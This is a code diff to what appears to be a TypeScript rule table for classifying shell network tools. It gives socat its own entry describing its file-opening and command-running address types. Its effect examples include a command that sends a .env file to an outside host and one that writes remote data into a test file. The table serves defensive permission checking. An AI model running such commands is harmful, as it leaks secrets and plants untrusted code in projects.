@@ -112,7 +112,7 @@ export const NET: RowSpec[] = [
   },
   { n: 'ip ifconfig iw nmcli', d: 'network configuration (show forms only)', loose: true, x: 'ip', ok: ['ip a', 'ip route', 'ifconfig', 'ip -br addr show'] },
   {
-    n: 'nc ncat netcat socat telnet websocat',
+    n: 'nc ncat netcat telnet websocat',
     d: 'raw sockets (sending data is the rules’ business)',
     loose: true,
     o: '-e|--exec=S -c|--sh-exec=S --lua-exec=X -o|--output=W -i=V -w=V -p=V -s=V',
@@ -222,5 +222,15 @@ export const NET: RowSpec[] = [
     o: '-d|--dbname=V -f|--file=W',
     a: 'R*',
     ok: ['pg_isready -h localhost'],
+  },
+  {
+    n: 'socat',
+    d: 'relays between two addresses (FILE:/OPEN:/GOPEN:/CREATE: open files; EXEC:/SYSTEM: run commands)',
+    loose: true,
+    o: '-d -D -v -x -h -V -s -u -U -g -4 -6 -b=V -t=V -T=V -L=W -W=W -lf=W -ls -lp=V -lu -lm -lh',
+    a: 'V*',
+    x: 'socat',
+    ok: ['socat - TCP:localhost:80', 'socat READLINE TCP:localhost:6379', 'socat -u FILE:/tmp/x.log TCP:localhost:9000'],
+    eff: ['socat FILE:.env TCP:example.com:80 => read .env', 'socat -u TCP:example.com:80 CREATE:tests/a.test.ts => write tests/a.test.ts'],
   },
 ];
